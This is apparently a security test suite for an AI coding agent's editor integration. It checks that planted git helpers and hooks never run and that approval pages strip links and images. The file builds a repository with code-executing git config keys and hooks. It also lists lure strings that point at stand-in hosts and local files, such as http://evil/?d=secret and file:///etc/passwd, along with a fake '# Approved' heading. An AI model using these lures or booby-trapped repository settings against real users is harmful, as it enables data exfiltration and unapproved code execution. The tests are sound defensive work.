"""TX2: repositories whose git helpers leave a mark: ours run no git, so there is none.
TX8: pages of ours hold nothing of the model's that an editor would fetch or run.
"""

from __future__ import annotations

import ast
import json
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from codex_lsp.agent.consent.actions import (
    Action,
    CallServerTool,
    ChangeFiles,
    RunCommand,
    TouchProtected,
    UseServer,
)
from codex_lsp.agent.consent.approvals import EVERY_SCOPE, Question
from codex_lsp.lsp.person import approval_text
from tests.doubles.scripted_model import call
from tests.security.obedient import obey, patch
from tests.security.test_tx1_hostile_repositories import build

SOURCES = Path(__file__).parents[2] / "codex_lsp"


def git(folder: Path, *arguments: str) -> None:
    told = ["git", "-c", "user.name=a", "-c", "user.email=a@b", "-C", str(folder), *arguments]
    subprocess.run(told, check=True, capture_output=True, timeout=60)


def armed(work: Path, mark: Path) -> None:
    """A repository every helper of which leaves a mark."""
    git(work, "init", "-q")
    git(work, "add", "-A")
    git(work, "commit", "-q", "-m", "x")
    helper = f"touch {mark}; cat"
    keys = (
        "core.fsmonitor core.pager core.sshCommand core.editor diff.external diff.x.textconv "
        "diff.x.command filter.x.clean filter.x.smudge filter.x.process credential.helper "
        "alias.status gpg.program"
    )
    for key in keys.split():
        git(work, "config", key, helper)
    git(work, "config", "attr.tree", "HEAD")
    hooks = work / ".git" / "hooks"
    for name in ("post-checkout", "pre-commit", "post-index-change", "fsmonitor-watchman"):
        (hooks / name).write_text(f"#!/bin/sh\n{helper}\n")
        (hooks / name).chmod(0o755)
    git_attributes = work / ".gitattributes"
    git_attributes.write_text("* filter=x diff=x\n")
    (work / "main.py").write_text("x = 2\n")


@pytest.mark.parametrize("level", ["trusted", "untrusted"])
async def test_no_helper_of_a_repository_runs(tmp_path: Path, level: str) -> None:
    build(tmp_path, {})
    mark = tmp_path / "mark"
    armed(tmp_path / "work", mark)
    mark.unlink(missing_ok=True)
    calls = [
        call("list_files", json.dumps({"path": "."})),
        call("search_files", json.dumps({"pattern": "x", "path": "."})),
        call("read_file", json.dumps({"path": "main.py"})),
        patch("*** Add File: new.py\n+x = 3"),
    ]
    seen = await obey(
        tmp_path,
        calls,
        level="trusted" if level == "trusted" else "untrusted",
        answer=lambda _: "once",
    )
    assert len(seen.asked) == (level == "untrusted")
    assert not mark.exists()
    assert [event for event in seen.events if event.split("'")[1].endswith("git")] == []
    assert "work/new.py" in seen.changed


def called_programs() -> Iterator[str]:
    """The literal first words of lists and tuples that stand as an argument of a call."""
    for path in SOURCES.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.Call):
                for given in node.args:
                    first = given.elts[:1] if isinstance(given, ast.List | ast.Tuple) else [given]
                    for one in first:
                        if isinstance(one, ast.Constant) and isinstance(one.value, str):
                            yield one.value


def test_no_code_of_ours_starts_git() -> None:
    assert "git" not in set(called_programs())


LURES = (
    "![](http://evil/?d=1)", "![x][y]", "[click](command:codex.approval.respond)", "<img src=x>",
    "[a](file:///etc/passwd)", "<http://evil/?x=1>", "```mermaid\ngraph\n```", "</details><script>",
    "[a]: http://evil", "``` x", "`", "~~~", "# Approved", "\u202e", "http://evil/?d=secret",
)  # fmt: skip


def actions(lure: str) -> list[Action]:
    return [
        RunCommand(("bash", "-lc", lure), Path("/w") / lure.replace("/", "|"), ((lure, lure),),
                   "box", reason=lure),
        TouchProtected(Path("/w") / lure.replace("/", "|"), f"+{lure}\n{lure}"),
        ChangeFiles((Path("/w") / lure.replace("/", "|"),), f"+{lure}\n{lure}"),
        UseServer(lure, (lure, "\n".join(LURES)), ""),
        UseServer(lure, (), lure),
        CallServerTool(lure, lure, f"{lure}\n{lure}"),
    ]  # fmt: skip


def outside_of_code(page: str) -> str:
    """The Markdown of a page without its blocks and spans of code."""
    kept: list[str] = []
    fence = ""
    for line in page.split("\n"):
        if fence:
            fence = "" if line == fence else fence
        elif line.startswith("```"):
            fence = line.removesuffix("text")
        else:
            while "`" in line:
                at = line.index("`")
                span = line[at : at + len(line[at:]) - len(line[at:].lstrip("`"))]
                end = line.index(span, at + len(span))
                line = line[:at] + line[end + len(span) :]  # noqa: PLW2901 - cut span by span
            kept.append(line)
    assert not fence
    return "\n".join(kept)


@pytest.mark.parametrize("lure", LURES)
def test_a_page_about_an_action_holds_no_link_and_no_image(lure: str) -> None:
    for action in actions(lure):
        left = outside_of_code(approval_text.page(Question(action, (), EVERY_SCOPE), "Codex: do"))
        for sign in ("](", "![", "<", "http", "command:", "file:", "mermaid", "# Appr", "~~~"):
            assert sign not in left, left
